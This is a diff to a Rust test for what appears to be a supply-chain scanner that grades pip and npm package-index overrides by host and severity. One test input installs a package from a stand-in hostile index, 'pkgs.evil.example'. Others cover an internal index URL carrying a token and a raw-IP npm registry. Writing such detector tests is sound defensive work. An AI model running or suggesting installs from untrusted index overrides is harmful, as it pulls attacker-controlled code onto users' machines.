@@ -36,18 +36,24 @@ fn index_overrides_are_graded_by_host() {
     assert_not_flagged("pip install -i https://pypi.org/simple requests\n");
     assert_absent("pip install -i https://pypi.org/simple requests\n", "supply.index-override");
     assert_hit(
-        "pip install --index-url https://pypi.internal.corp/simple acme-utils\n",
+        "pip install --index-url https://pkgs.evil.example/simple acme-utils\n",
         "supply.index-override",
         SupplyChain,
         High,
         1,
+    );
+    // An organisation's own index: reported, not refused.
+    assert_severity(
+        "export PIP_INDEX_URL=\"https://__token__:${T}@pypi.internal.example/simple/\"\n",
+        "supply.index-override",
+        Medium,
     );
     assert_severity(
         "pip install torch --extra-index-url https://download.pytorch.org/whl/cu121\n",
         "supply.index-override",
         Low,
     );
-    assert_hit("```\nnpm config set registry http://10.0.0.5:4873/\n```\n", "supply.index-override", SupplyChain, High, 2);
+    assert_hit("```\nnpm config set registry http://203.0.113.5:4873/\n```\n", "supply.index-override", SupplyChain, High, 2);
 }
 
 #[test]
